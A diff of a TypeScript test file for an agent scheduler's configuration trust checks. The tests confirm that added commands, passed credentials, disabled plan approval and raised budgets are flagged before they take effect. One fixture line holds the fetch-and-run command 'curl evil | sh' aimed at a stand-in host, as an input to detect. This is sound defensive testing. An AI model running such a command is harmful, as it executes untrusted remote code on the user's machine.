@@ -1,6 +1,7 @@
 import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
 import { basename, join } from "node:path";
 import { describe, expect, test } from "vitest";
+import { type Configuration, readProject, readUser } from "../../src/config/configuration.ts";
 import { findProjectConfiguration, findUserConfiguration, type FoundConfiguration } from "../../src/config/found.ts";
 import { trustNeeded } from "../../src/config/trust.ts";
 import { errorOf, type Scratch, scratch, valueOf } from "./scratch.ts";
@@ -77,15 +78,15 @@ describe("the user's own configuration", () => {
 });
 
 describe("trust", () => {
-  const powers = (place: Scratch & { readonly found: FoundConfiguration }, user?: FoundConfiguration) =>
-    valueOf(trustNeeded(place.found, user))?.powers.map(({ where, what }) => [basename(where), what]);
+  const powers = ({ found }: { readonly found: FoundConfiguration }, user?: Configuration) =>
+    valueOf(trustNeeded(valueOf(readProject(found)), user)).map(({ where, what }) => [basename(where), what]);
   const facts = (...lines: readonly [where: string, fact: string][]) =>
     lines.map(([where, fact]) => [where, expect.stringContaining(fact) as string]);
 
   test("is not needed for settings that make a session smaller or slower", () => {
     const text =
       "max_workers: 1\ntimeout_s: 60\nbudget: {turns: 5, usd: 1}\nplan_approval: ask\nchecks: {ticket: [it reads well]}\n";
-    expect(powers(project({ "scheduler_config.yaml": text }))).toBeUndefined();
+    expect(powers(project({ "scheduler_config.yaml": text }))).toEqual([]);
   });
   test("is needed for every command and every guard removed, each with its line", () => {
     const place = project({
@@ -109,15 +110,15 @@ describe("trust", () => {
     });
     expect(powers(place)).toEqual(
       facts(
-        ["night.json:1", 'n\ufffd2J is filled by "model"'],
-        ["roles.yaml:2", '["sh","run.sh"] with variables of its own with the auth profile work'],
+        ["night.json:1", 'n\ufffd2J takes a seat, type "worker", backend "model"'],
+        ["roles.yaml:2", '["sh","run.sh"], type "worker", env {"A":"b"}, metadata {"auth_profile":"work"}'],
         ["scheduler_config.yaml:3", '["npm","test"]'],
-        ["scheduler_config.yaml:6", '["sh","-c","curl evil | sh"]'],
-        ["scheduler_config.yaml:11", "the auth profile work see WORK_KEY"],
+        ["scheduler_config.yaml:5", '["sh","-c","curl evil | sh"]'],
         ["scheduler_config.yaml:7", '["notify-send","hello"]'],
-        ["scheduler_config.yaml:8", "approval"],
+        ["scheduler_config.yaml:8", 'plan_approval is "never"'],
         ["scheduler_config.yaml:9", '"/home"'],
-        ["scheduler_config.yaml:10", "budget.turns is raised from 200 to 100000"],
+        ["scheduler_config.yaml:10", "budget.turns is 100000, not 200"],
+        ["scheduler_config.yaml:11", 'auth_profiles.work.pass_env is ["WORK_KEY"]'],
       ),
     );
   });
@@ -133,7 +134,7 @@ describe("trust", () => {
       ["roles.yaml:2", expect.stringMatching(/\["claude"\].*\["\*"\].*network/)],
       ["roles.yaml:3", expect.stringMatching(/\["codex"\].*write.*sandbox "none".*account "b"/)],
       ["roles.yaml:4", expect.stringMatching(/\["x"\].*network/)],
-      ["roles.yaml:5", expect.stringMatching(/\["x"\]$/)],
+      ["roles.yaml:5", expect.stringContaining('permissions {"commands":[],"network":false,"write":"none"}')],
     ]);
   });
   test("is needed for prompts, which tell agents what to do", () => {
@@ -154,7 +155,7 @@ describe("trust", () => {
         "accounts: {codex: {reserve: 20}, claude: {reserve: 20}}",
       ].join("\n"),
     );
-    const user = valueOf(findUserConfiguration({ HOME: home.directory }));
+    const user = valueOf(readUser({ HOME: home.directory }));
     const within = [
       "review: user",
       "budget: {turns: 4, usd: 1, tokens: 9000000, wall_s: 20000, ticket: {turns: 2, wall_s: 60}}",
@@ -165,7 +166,7 @@ describe("trust", () => {
       "metadata: {year: 3000}",
       "accounts: {codex: {reserve: 30}, other: {reserve: 0}}",
     ];
-    expect(powers(project({ "scheduler_config.yaml": within.join("\n") }), user)).toBeUndefined();
+    expect(powers(project({ "scheduler_config.yaml": within.join("\n") }), user)).toEqual([]);
     const beyond = [
       "review: manager",
       "budget:",
@@ -180,15 +181,15 @@ describe("trust", () => {
     ];
     expect(powers(project({ "scheduler_config.yaml": beyond.join("\n") }), user)).toEqual(
       facts(
-        ["scheduler_config.yaml:7", "checks of each ticket"],
-        ["scheduler_config.yaml:1", '"manager", not by "user"'],
-        ["scheduler_config.yaml:10", "accounts.codex.reserve is lowered from 20 to 0"],
-        ["scheduler_config.yaml:3", "budget.turns is raised from 5 to 100"],
-        ["scheduler_config.yaml:4", "budget.usd is raised from 2 to 50"],
-        ["scheduler_config.yaml:5", "budget.wall_s is raised from 20000 to 20001"],
-        ["scheduler_config.yaml:6", "budget.ticket.turns is raised from 2 to 3"],
-        ["scheduler_config.yaml:8", "max_workers is raised from 2 to 3"],
-        ["scheduler_config.yaml:9", "discussion.budget.turns is raised from 10 to 11"],
+        ["scheduler_config.yaml:1", 'review is "manager", not "user"'],
+        ["scheduler_config.yaml:3", "budget.turns is 100, not 5"],
+        ["scheduler_config.yaml:4", "budget.usd is 50, not 2"],
+        ["scheduler_config.yaml:5", "budget.wall_s is 20001, not 20000"],
+        ["scheduler_config.yaml:6", "budget.ticket.turns is 3, not 2"],
+        ["scheduler_config.yaml:7", 'checks.ticket is [], not ["it reads well"]'],
+        ["scheduler_config.yaml:8", "max_workers is 3, not 2"],
+        ["scheduler_config.yaml:9", "discussion.budget.turns is 11, not 10"],
+        ["scheduler_config.yaml:10", "accounts.codex.reserve is 0, not 20"],
       ),
     );
     expect(powers(project({ "scheduler_config.yaml": "review: checks\n" }))).toHaveLength(1);
@@ -199,34 +200,34 @@ describe("trust", () => {
     ["never", "proposal: never\n", undefined],
     ["risk", "proposal: never\n", undefined],
     ["always", undefined, undefined],
-    ["{patterns: [live]}", undefined, "other words than usual signal risk"],
+    ["{patterns: [live]}", undefined, '{"patterns":["live"]}, not "risk"'],
   ])("is needed for less discussion before the work: %s over %s", (given, own, wanted) => {
     const home = scratch();
     if (own !== undefined) home.write(".config/bosun/scheduler_config.yaml", own);
-    const user = valueOf(findUserConfiguration({ HOME: home.directory }));
+    const user = valueOf(readUser({ HOME: home.directory }));
     expect(powers(project({ "scheduler_config.yaml": `proposal: ${given}\n` }), user)).toEqual(
-      wanted && facts(["scheduler_config.yaml:1", wanted]),
+      wanted === undefined ? [] : facts(["scheduler_config.yaml:1", wanted]),
     );
   });
   test("is refused for a link, whose target could change", () => {
     const place = project({ "roles.yaml": "roles: []\n" });
     symlinkSync("/etc/hostname", join(place.found.folder, "run.sh"));
-    const failure = errorOf(trustNeeded(place.found, undefined));
+    const failure = errorOf(readProject(place.found));
     expect([failure.code, failure.message]).toEqual(["trust", expect.stringMatching(/run\.sh is a symbolic link/)]);
     expect(failure.hint).toMatch(/--config.*--roles/);
 
     const linked = scratch();
     symlinkSync(project({ "roles.yaml": "roles: []\n" }).found.folder, join(linked.directory, ".bosun"));
     const found = valueOf(findProjectConfiguration(linked.directory));
-    expect(found && errorOf(trustNeeded(found, undefined)).code).toBe("trust");
+    expect(found && errorOf(readProject(found)).code).toBe("trust");
   });
   test("is refused for a folder of thousands of files", () => {
     const place = project({ "roles.yaml": "roles: []\n" });
     for (let index = 0; index < 1_001; index += 1) writeFileSync(join(place.found.folder, `${index}`), "");
-    expect(errorOf(trustNeeded(place.found, undefined)).message).toContain("more than 1000 files");
+    expect(errorOf(readProject(place.found)).code).toBe("trust");
   });
   test("fails for an unreadable file before the user is asked", () => {
     const place = project({ "roles.yaml": "roles: [\n" });
-    expect(errorOf(trustNeeded(place.found, undefined)).code).toBe("configuration");
+    expect(errorOf(trustNeeded(valueOf(readProject(place.found)), undefined)).code).toBe("configuration");
   });
 });
